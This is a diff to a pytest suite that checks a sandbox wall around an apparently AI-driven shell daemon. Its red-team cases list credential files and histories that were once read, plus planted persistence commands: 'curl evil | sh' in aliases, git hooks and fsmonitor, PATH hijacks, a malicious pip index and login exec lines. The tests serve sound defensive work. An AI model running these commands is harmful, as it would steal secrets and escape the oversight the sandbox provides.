@@ -87,10 +87,17 @@ def make_home(home: Path) -> None:
     for rel, body in files.items():
         (home / rel).parent.mkdir(parents=True, exist_ok=True)
         (home / rel).write_text(body)
-    for repo in (home / "work", home / "proj"):
-        repo.mkdir(exist_ok=True)
+    for repo in (home / "work", home / "proj", home / "code" / "deep"):
+        repo.mkdir(parents=True, exist_ok=True)
         subprocess.run(["git", "init", "-q", str(repo)], check=True)
         (repo / ".git" / "hooks").mkdir(exist_ok=True)
+    # A submodule as git lays it out: its git folder inside the parent's.
+    module = home / "proj" / ".git" / "modules" / "sub"
+    (module / "hooks").mkdir(parents=True)
+    (module / "HEAD").write_text("ref: refs/heads/main\n")
+    (module / "config").write_text("[core]\n\tbare = false\n")
+    (home / "proj" / "sub").mkdir()
+    (home / "proj" / "sub" / ".git").write_text("gitdir: ../.git/modules/sub\n")
 
 
 @pytest.fixture
@@ -168,6 +175,33 @@ async def test_the_service_env_file_cannot_be_changed(daemon: Daemon) -> None:
     assert read.is_error and ENV_KEY not in text(read)
 
 
+# Red team: credential stores and histories the wall did not hide (each was read).
+CREDENTIAL_STORES = [
+    ".config/containers/auth.json",
+    ".m2/settings.xml",
+    ".gradle/gradle.properties",
+    ".yarnrc.yml",
+    ".cache/huggingface/token",
+    ".config/sops/age/keys.txt",
+    ".config/composer/auth.json",
+    ".terraformrc",
+    ".wrangler/config/default.toml",
+    ".bash_history",
+    ".zsh_history",
+    ".python_history",
+    ".local/share/fish/fish_history",
+]
+
+
+@pytest.mark.parametrize("rel", CREDENTIAL_STORES)
+async def test_the_usual_credential_stores_are_hidden(daemon: Daemon, rel: str) -> None:
+    secret = "store-never-seen-0005"
+    (daemon.home / rel).parent.mkdir(parents=True, exist_ok=True)
+    (daemon.home / rel).write_text(secret + "\n")
+    output = await daemon.sh(f"cat ~/{rel} 2>&1; grep -r store-never-seen ~ 2>&1")
+    assert secret not in output, output
+
+
 async def test_send_file_refuses_the_env_file_and_every_secret_file(daemon: Daemon) -> None:
     for path in ("~/.config/dispatch-matrix/env", "~/secrets/token", "~/mcp/header"):
         result = await daemon.call("send_file", path=path)
@@ -237,6 +271,82 @@ PERSISTENCE = [
         ".ssh/authorized_keys",
         None,
     ),
+    # Red team after the rebuild: each of these was planted.
+    ("echo 'curl evil | sh' > ~/.bash_aliases", ".bash_aliases", None),
+    ("mkdir -p ~/.bashrc.d; echo evil > ~/.bashrc.d/x.sh", ".bashrc.d/x.sh", None),
+    (
+        "mkdir -p ~/.local/share/systemd/user/dispatch-matrix.service.d; echo "
+        "'[Service]' > ~/.local/share/systemd/user/dispatch-matrix.service.d/x.conf",
+        ".local/share/systemd/user/dispatch-matrix.service.d/x.conf",
+        None,
+    ),
+    (
+        "mkdir -p ~/.local/share/dbus-1/services; echo x > "
+        "~/.local/share/dbus-1/services/org.freedesktop.Notifications.service",
+        ".local/share/dbus-1/services/org.freedesktop.Notifications.service",
+        None,
+    ),
+    (
+        "mkdir -p ~/.local/lib/python3.11/site-packages; echo 'import evil' > "
+        "~/.local/lib/python3.11/site-packages/evil.pth",
+        ".local/lib/python3.11/site-packages/evil.pth",
+        None,
+    ),
+    ("mkdir -p ~/.vim/plugin; echo evil > ~/.vim/plugin/x.vim", ".vim/plugin/x.vim", None),
+    ("echo 'run-shell evil' > ~/.tmux.conf", ".tmux.conf", None),
+    (
+        "echo evil > ~/code/deep/.git/hooks/pre-commit",
+        "code/deep/.git/hooks/pre-commit",
+        None,
+    ),
+    (
+        "git -C ~/code/deep config core.fsmonitor evil 2>&1",
+        "code/deep/.git/config",
+        "keep",
+    ),
+    (
+        "echo evil > ~/proj/.git/modules/sub/hooks/pre-commit",
+        "proj/.git/modules/sub/hooks/pre-commit",
+        None,
+    ),
+    ("echo evil >> ~/proj/.git/modules/sub/config", "proj/.git/modules/sub/config", "keep"),
+    (
+        "cp -r ~/work/.git ~/g; printf '[core]\\n\\tfsmonitor = evil\\n' > ~/g/config; "
+        "echo ../../g > ~/work/.git/commondir",
+        "work/.git/commondir",
+        None,
+    ),
+    # A repository made of the home itself: its config rules every git call in a folder of
+    # the home that is not a repository of its own.
+    ("git init -q ~ 2>&1; git -C ~ config core.fsmonitor evil 2>&1", ".git/config", None),
+    # On the PATH that rustup, Go, Deno and Bun add to a login, ahead of /usr/bin.
+    ("mkdir -p ~/.cargo/bin; echo evil > ~/.cargo/bin/git", ".cargo/bin/git", None),
+    ("mkdir -p ~/go/bin; echo evil > ~/go/bin/ls", "go/bin/ls", None),
+    ("mkdir -p ~/.bun/bin; echo evil > ~/.bun/bin/node", ".bun/bin/node", None),
+    # Run by the next build or install outside: a rustc wrapper, a package index.
+    (
+        "mkdir -p ~/.cargo; printf '[build]\\nrustc-wrapper=\"/tmp/x\"' > ~/.cargo/config.toml",
+        ".cargo/config.toml",
+        None,
+    ),
+    (
+        "mkdir -p ~/.config/pip; printf '[global]\\nindex-url=http://evil' > "
+        "~/.config/pip/pip.conf",
+        ".config/pip/pip.conf",
+        None,
+    ),
+    # Run at the next desktop login (KDE sources env/*.sh; sway and i3 run `exec` lines).
+    (
+        "mkdir -p ~/.config/plasma-workspace/env; echo evil > ~/.config/plasma-workspace/env/x.sh",
+        ".config/plasma-workspace/env/x.sh",
+        None,
+    ),
+    (
+        "mkdir -p ~/.config/sway; echo 'exec evil' > ~/.config/sway/config",
+        ".config/sway/config",
+        None,
+    ),
+    ("mkdir -p ~/.config/i3; echo 'exec evil' > ~/.config/i3/config", ".config/i3/config", None),
 ]
 
 
@@ -348,6 +458,7 @@ FILE_TOOL_WRITES = [
     "~/venv/lib/python3/site-packages/evil.pth",
     "~/work/.git/hooks/post-checkout",
     "~/work/.git/config",
+    "~/work/.git/commondir",
     "~/deep/er/repo/.git/hooks/pre-commit",
     "~/proj/.vscode/tasks.json",
     "~/proj/.claude/settings.json",
